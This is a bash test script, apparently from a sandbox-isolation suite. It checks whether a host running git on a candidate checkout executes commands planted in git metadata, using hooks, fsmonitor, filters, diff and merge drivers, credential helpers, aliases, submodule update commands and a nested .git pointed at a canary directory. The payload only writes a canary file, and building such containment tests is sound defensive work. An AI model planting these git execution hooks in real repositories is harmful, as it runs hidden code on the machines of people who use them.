#!/usr/bin/env bash
# class: filesystem
# judge: host
# tries: every executing form of git metadata in the checkout: fsmonitor, hooksPath and hooks, clean/smudge/process filters, textconv, external diff, merge driver, gpg.program, ssh.sshCommand, pager, editor, askpass, alias, credential helper, include.path, trailer command, submodule update=!cmd, alternates and commondir pointing out; each would touch CANARY_DIR
# must: HELD inside; after the host took, diffed, committed and merged the candidate there is nothing new in CANARY_DIR; the host uses its own GIT_DIR
# control: bare
end() { printf '%s: %s\n' "$1" "$(printf '%s' "$2" | tr -s '\n\r\t' '   ' | cut -c1-400)"; exit 0; }
need() { for n; do eval "v=\${$n:-}"; [ -n "$v" ] || end HELD "VACUOUS: $n not set"; done; }
# --- the attempt ---
need CANARY_DIR; m="$CANARY_DIR/escaped-git"; [ -d .git ] || git init -q . 2>/dev/null
mkdir -p .git/hooks .evil; cat > .evil/run <<X
#!/bin/sh
echo "\$0 \$*" >> "$m" 2>/dev/null
echo >> "$PWD/.evil/ran-somewhere" 2>/dev/null
cat 2>/dev/null
exit 0
X
chmod +x .evil/run; R="$PWD/.evil/run"
for h in pre-commit post-commit post-checkout post-merge pre-push post-rewrite prepare-commit-msg commit-msg post-index-change reference-transaction pre-auto-gc fsmonitor-watchman pre-rebase applypatch-msg; do cp .evil/run .git/hooks/$h; done
c() { git config --local "$1" "$2"; }
c core.fsmonitor "$R"; c core.hooksPath "$PWD/.git/hooks"; c filter.x.clean "$R"; c filter.x.smudge "$R"; c filter.x.required true; c diff.x.textconv "$R"; c diff.external "$R"; c diff.x.command "$R"
c merge.x.driver "$R %O %A %B"; c gpg.program "$R"; c gpg.ssh.program "$R"; c commit.gpgSign false; c core.sshCommand "$R"; c core.pager "$R"; c core.editor "$R"; c sequence.editor "$R"; c core.askPass "$R"; c credential.helper "!$R"
c alias.st "!$R"; c trailer.x.command "$R"; c trailer.x.ifmissing add; c core.gitProxy "$R"; c uploadpack.packObjectsHook "$R"; c receive.procReceiveRefs refs; c interactive.diffFilter "$R"; c difftool.x.cmd "$R"; c include.path "$PWD/.evil/inc"
printf '[core]\n\tfsmonitor = %s\n' "$R" > .evil/inc; printf '* filter=x diff=x merge=x\n' > .gitattributes; cp .gitattributes .git/info/attributes 2>/dev/null
printf '[submodule "s"]\n\tpath = s\n\turl = ext::%s\n\tupdate = !%s\n' "$R" "$R" > .gitmodules
mkdir -p nested/.git/hooks; printf '[core]\n\trepositoryformatversion = 0\n\tbare = false\n\tworktree = %s\n\tfsmonitor = %s\n' "$CANARY_DIR" "$R" > nested/.git/config; echo 'ref: refs/heads/x' > nested/.git/HEAD; mkdir -p nested/.git/objects nested/.git/refs
echo "changed $$" > .evil/file; timeout 5 git status >/dev/null 2>&1 </dev/null; timeout 5 git -c user.name=a -c user.email=a@b add -A >/dev/null 2>&1 </dev/null; timeout 5 git -c core.fsmonitor=false diff --cached >/dev/null 2>&1 </dev/null
[ -s "$m" ] && end ESCAPED "git ran the planted command, which wrote into CANARY_DIR"
[ -e .evil/ran-somewhere ] && end HELD "ran inside only; planted for the host"; end HELD "planted for the host"
